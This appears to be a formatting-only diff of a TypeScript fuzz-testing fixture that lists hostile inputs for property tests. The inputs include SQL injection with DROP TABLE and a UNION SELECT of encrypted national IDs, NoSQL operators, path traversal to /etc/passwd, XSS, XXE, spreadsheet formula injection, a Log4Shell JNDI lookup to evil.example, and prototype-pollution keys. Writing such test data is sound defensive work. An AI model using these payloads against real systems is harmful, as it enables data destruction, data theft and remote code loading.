@@ -8,8 +8,8 @@ export class RawLiteral {
 /** Strings that have broken real systems: injections, traversal, NUL, bidi and zero-width, lone surrogates, formulas. */
 export const NASTY_STRINGS = [
   "' OR '1'='1",
-  "1; DROP TABLE \"user\";--",
-  "' UNION SELECT national_id_encrypted FROM \"user\"--",
+  '1; DROP TABLE "user";--',
+  '\' UNION SELECT national_id_encrypted FROM "user"--',
   '{"$ne":null}',
   '{"$gt":""}',
   '../../../../etc/passwd',
@@ -26,7 +26,7 @@ export const NASTY_STRINGS = [
   '<script>alert(1)</script>',
   '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>',
   '=HYPERLINK("http://evil.example","x")',
-  '+1+cmd|\' /C calc\'!A0',
+  "+1+cmd|' /C calc'!A0",
   '${jndi:ldap://evil.example/a}',
   '{{7*7}}',
   '__proto__',
@@ -64,7 +64,21 @@ export const NASTY_NUMBERS: (number | RawLiteral)[] = [
   new RawLiteral('0x10'),
 ];
 
-export const NASTY_KEYS = ['__proto__', 'constructor', 'prototype', '$where', '$ne', 'role', 'organisationId', 'score', 'userId', 'id', 'tokenVersion', 'passwordHash', 'isAdmin'];
+export const NASTY_KEYS = [
+  '__proto__',
+  'constructor',
+  'prototype',
+  '$where',
+  '$ne',
+  'role',
+  'organisationId',
+  'score',
+  'userId',
+  'id',
+  'tokenVersion',
+  'passwordHash',
+  'isAdmin',
+];
 
 export const hostileString: fc.Arbitrary<string> = fc.oneof(
   { weight: 3, arbitrary: fc.constantFrom(...NASTY_STRINGS) },
@@ -97,7 +111,10 @@ export const hostileValue: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>
 export function toJsonText(v: unknown): string {
   if (v instanceof RawLiteral) return v.text;
   if (Array.isArray(v)) return `[${v.map(toJsonText).join(',')}]`;
-  if (v !== null && typeof v === 'object') return `{${Object.entries(v).map(([k, x]) => `${JSON.stringify(k)}:${toJsonText(x)}`).join(',')}}`;
+  if (v !== null && typeof v === 'object')
+    return `{${Object.entries(v)
+      .map(([k, x]) => `${JSON.stringify(k)}:${toJsonText(x)}`)
+      .join(',')}}`;
   if (typeof v === 'number' && !Number.isFinite(v)) return String(v);
   return JSON.stringify(v) ?? 'null';
 }
